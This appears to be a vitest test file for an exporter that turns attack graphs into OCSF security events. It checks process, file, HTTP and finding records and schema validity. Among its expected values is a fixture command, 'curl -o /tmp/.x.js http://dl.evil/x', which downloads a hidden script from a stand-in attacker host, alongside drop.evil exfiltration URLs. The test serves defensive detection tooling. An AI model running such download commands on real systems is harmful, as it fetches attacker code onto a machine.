import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { ocsf } from '../../../functions/export/ocsf.ts';
import { hasOcsf, opened } from './consumer.ts';
import { attack, hostileGraph, hostileStory } from './graphs.ts';

type Event = Readonly<Record<string, unknown>> & { readonly class_uid: number; readonly activity_id: number };
const text = (parts: Iterable<string>) => [...parts].join('');

describe.skipIf(!hasOcsf)('OCSF events, validated against the schema', () => {
  let made: Awaited<ReturnType<typeof attack>>;
  let events: readonly Event[];
  beforeAll(async () => {
    made = await attack();
    events = opened<readonly Event[]>('ocsf', [text(ocsf(made.graph, made.told))])[0]!;
  });
  const of = (uid: number, activity?: number) =>
    events.filter((one) => one.class_uid === uid && (activity === undefined || one.activity_id === activity));

  it('tells of each program started and ended, with who started it', () => {
    const started = of(1007, 1).find(({ process }) => (process as { name?: string }).name === 'curl');
    expect(started).toMatchObject({
      process: { pid: 41, cmd_line: 'curl -o /tmp/.x.js http://dl.evil/x', name: 'curl' },
      actor: { process: { pid: 40 } },
      device: { uid: made.cards.id, name: 'authorize-cc' },
      metadata: { correlation_uid: 'req-plant' },
    });
    expect(of(1007, 2).length).toBeGreaterThan(0);
  });

  it('tells of files, exchanges and requests from outside', () => {
    expect(of(1001, 3)).toContainEqual(expect.objectContaining({ file: expect.objectContaining({ path: '/tmp/.x.js' }) }));
    expect(of(1001, 2)).toContainEqual(expect.objectContaining({ file: expect.objectContaining({ path: '/tmp/.x.js' }) }));
    const http = of(4002).map(({ http_request: request }) => request as { url: { url_string?: string }; user_agent?: string });
    expect(http.map(({ url }) => url.url_string)).toEqual(expect.arrayContaining(['https://drop.evil/c', 'http://dl.evil/x']));
    expect(http.map(({ user_agent: agent }) => agent)).toContain('curl/8');
  });

  it('makes one finding of a story, with its steps as evidence', () => {
    const [finding, ...others] = of(2004);
    expect(others).toEqual([]);
    const carried = made.told.steps.filter(({ role }) => role !== 'touched');
    expect(finding).toMatchObject({
      finding_info: { title: 'How an attack came to drop.evil', related_events_count: carried.length },
    });
    expect(finding!.evidences).toHaveLength(carried.length);
    expect(text(ocsf(made.graph))).not.toContain('2004');
  });

  it('gives every event an id of its own, the same in every export', () => {
    const ids = events.map(({ metadata }) => (metadata as { uid: string }).uid);
    expect(new Set(ids).size).toBe(ids.length);
    expect(text(ocsf(made.graph, made.told))).toBe(text(ocsf(made.graph, made.told)));
  });

  it('stays valid, an event a line, whatever the evidence holds', () => {
    const graphs = fc.sample(hostileGraph, { numRuns: 60, seed: 17 });
    const stories = fc.sample(hostileStory, { numRuns: 60, seed: 17 });
    const all = opened<readonly Event[]>(
      'ocsf',
      graphs.map((one, i) => text(ocsf(one, stories[i]))),
    );
    for (const read of all) expect(read.filter(({ class_uid: uid }) => uid === 2004)).toHaveLength(1);
  });
});
